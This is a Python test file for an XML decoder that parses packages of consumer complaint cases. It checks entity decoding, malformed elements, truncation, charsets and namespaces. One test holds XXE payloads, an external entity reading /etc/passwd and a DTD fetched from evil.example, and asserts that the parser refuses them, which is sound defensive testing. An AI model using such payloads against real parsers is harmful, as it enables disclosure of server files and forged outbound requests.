"""XML that was joined from strings: a fault damages a character or an element, not the package."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from connectors.contract import FaultError
from connectors.formats.xml_body import mend, parse_xml, rest, text_of
from connectors.values.text import tidy
from schemas.channel import Channel
from schemas.reports.fact import Decoded
from schemas.reports.rejected import Reason
from tests.connectors.messages import decode


def case(number: str, content: str, more: str = "") -> str:
    """Return a `<Case>` with this content and further elements."""
    return (
        f"<Case><RegNo>{number}</RegNo><Type>1</Type><RegTime>2026-03-02 12:00</RegTime>"
        f"<Complainant><Name>王小二</Name></Complainant><Content>{content}</Content>{more}</Case>"
    )


def cases(*shown: str, start: str = "<Package>") -> Decoded:
    """Return what a package of cases becomes."""
    return decode(Channel.CONSUMER_12315, f"{start}{''.join(shown)}</Package>".encode())


@pytest.mark.parametrize(
    ("written", "read"),
    [
        ("A&B超市", "A&B超市"),
        ("价格&nbsp;高&mdash;太高", "价格\u00a0高—太高"),
        ("气温<5度", "气温<5度"),
        ("a &unknown; b", "a &unknown; b"),
        ("路灯\x0b坏了\x08", "路灯\n坏了"),
        ("路灯&#xB;坏了&#8;", "路灯\n坏了"),
        ("谢谢&#55357;&#56911;", "谢谢\U0001f64f"),
        ("谢谢&#xD83D;&#xDE4F;", "谢谢\U0001f64f"),
        ("半&#xD83D;个", "半\ufffd个"),
        ("A&amp;B &#38; C &lt;D", "A&B & C <D"),
        ("<![CDATA[A&nbsp;B & <br> &#8;]]>&", "A&nbsp;B & <br> &#8;&"),
        ("买到过期牛奶<br/>商家<b>拒绝</b>退款", "买到过期牛奶\n商家拒绝退款"),
        ("<p>一</p><p>二</p>三", "一\n二\n三"),
    ],
)
def test_what_joining_strings_gets_wrong_costs_itself(written: str, read: str) -> None:
    """The words of this case and the case beside it are whole."""
    decoded = cases(case("K-1", written), case("K-2", "缺斤少两"))
    assert [fault.detail for fault in decoded.faults] == []
    assert [fact.content for fact in decoded.facts] == [read, "缺斤少两"]


@given(st.text(st.characters(codec="utf-8")))
def test_mended_text_has_no_forbidden_character(text: str) -> None:
    """Whatever a text holds, `mend` makes it content that parses, and once is enough."""
    mended = mend(text.replace("<", "&lt;").replace("]]>", ""))
    assert mend(mended) == mended
    assert parse_xml(f"<a>{mended}</a>".encode()).tag == "a"


@given(st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), min_size=1))
def test_bare_ampersands_and_angles_before_figures_stay(text: str) -> None:
    """Characters that are allowed come back, markup aside."""
    words = "事" + text.replace("<", "<1").replace("&", "& ").replace("]]>", "") + "终"
    if "\ufffe" not in words and "\uffff" not in words:
        assert text_of(parse_xml(f"<a>{words}</a>".encode())) == tidy(words)


@pytest.mark.parametrize("bad", ["店主</b>骂人", "<Name>没有结尾", "<五度"])
def test_an_element_that_is_not_well_formed_costs_itself(bad: str) -> None:
    """The cases beside it are read; the rejection has its place and its bytes."""
    decoded = cases(case("K-1", "过期"), case("K-2", bad), case("K-3", "短斤"))
    assert [fact.native_id for fact in decoded.facts] == ["K-1", "K-3"]
    [fault] = decoded.faults
    assert (fault.reason, fault.position) == (Reason.BAD_SYNTAX, "/Package/Case[2]")
    assert fault.part == case("K-2", bad).encode()


def test_a_package_that_is_cut_gives_its_whole_elements() -> None:
    """What follows the cut is a rejection."""
    body = f"<Package>{case('K-1', '过期')}{case('K-2', '短斤')}</Package>".encode()[:-60]
    decoded = decode(Channel.CONSUMER_12315, body)
    assert [fact.native_id for fact in decoded.facts] == ["K-1"]
    assert [fault.reason for fault in decoded.faults] == [Reason.BAD_SYNTAX]


@pytest.mark.parametrize(
    "attack",
    [
        '<!DOCTYPE p [<!ENTITY a "x">]><Package>{}</Package>',
        '<!DOCTYPE p [<!ENTITY a SYSTEM "file:///etc/passwd">]><Package>{}&a;</Package>',
        '<!DOCTYPE p SYSTEM "http://evil.example/a.dtd"><Package>{}</Package>',
        '<!DOCTYPE p [<!ENTITY a "x">]><Package>{}<b></Package>',
        '<!DOCTYPE p [<!ENTITY a "x">]><Package>{}& \x08</Package>',
    ],
)
def test_a_dtd_is_refused_whatever_else_is_wrong(attack: str) -> None:
    """Mending and reading case by case never get past a DTD or an entity."""
    body = attack.format(case("K-1", "&a;")).encode()
    decoded = decode(Channel.CONSUMER_12315, body)
    assert decoded.facts == ()
    assert [fault.reason for fault in decoded.faults] == [Reason.FORBIDDEN_CONTENT]


def test_what_has_no_place_of_its_own_is_kept_by_its_path() -> None:
    """Repeated, nested and mixed elements, attributes, and a second known element."""
    more = (
        "<Evidence>牛奶盒.jpg</Evidence><Evidence>小票.jpg</Evidence><Content>补充</Content>"
        '<Witness since="2026"><Name>李四</Name><Word>当<b>时</b>在场</Word></Witness>'
    )
    [fact] = cases(case("K-1", '过期<img src="a.jpg"/>牛奶', more)).facts
    assert fact.content == "过期牛奶"
    expected = {
        "Content/img@src": "a.jpg",
        "Evidence": ["牛奶盒.jpg", "小票.jpg"],
        "Content": "补充",
        "Witness@since": "2026",
        "Witness/Name": "李四",
        "Witness/Word": "当时在场",
    }
    assert {key: fact.native[key] for key in expected} == expected


def test_unknown_elements_of_known_containers_are_kept() -> None:
    """A second address of the enterprise, or the mail of a complainant, is not dropped."""
    root = parse_xml(b"<a><E>x<N>1</N><M>2</M>y</E><E><N>3</N></E></a>")
    assert rest(root, frozenset({"E/N"})) == {"E": ["x", "y"], "E/M": "2", "E/N": "3"}
    assert rest(root, frozenset({"E/N"}), frozenset({"E"})) == {"E": ["x", "y"], "E/M": "2"}


@pytest.mark.parametrize("charset", ["utf-16", "utf-16-le", "utf-16-be", "gb18030", "utf-8-sig"])
def test_the_bytes_decide_the_charset(charset: str) -> None:
    """A template says GB2312 whatever its writer writes."""
    text = f'<?xml version="1.0" encoding="GB2312"?><Package>{case("K-1", "电梯困人")}</Package>'
    [fact] = decode(Channel.CONSUMER_12315, text.encode(charset)).facts
    assert fact.content == "电梯困人"


@pytest.mark.parametrize(
    "start", ['<Package xmlns="urn:x">', '<p:Package xmlns:p="urn:x">', "\n <Package>"]
)
def test_namespaces_and_blanks_before_the_root_do_not_matter(start: str) -> None:
    """Serialisers add them."""
    end = "</p:Package>" if "p:" in start else "</Package>"
    body = f"{start}{case('K-1', '过期')}{end}".encode()
    [fact] = decode(Channel.CONSUMER_12315, body).facts
    assert fact.native_id == "K-1"


def test_a_body_that_is_no_xml_says_where() -> None:
    """The position is the line of the first fault."""
    with pytest.raises(FaultError) as caught:
        parse_xml(b"<a>\n<b></a>")
    assert (caught.value.fault.reason, caught.value.fault.position) == (Reason.BAD_SYNTAX, "line 2")


@pytest.mark.parametrize("header", ["gzip", "x-gzip"])
def test_a_header_that_a_proxy_left_does_not_matter(header: str) -> None:
    """The body is plain, whatever its header says."""
    body = f"<Package>{case('K-1', '过期')}</Package>".encode()
    decoded = decode(Channel.CONSUMER_12315, body, Content_Encoding=header)
    assert [fact.native_id for fact in decoded.facts] == ["K-1"]
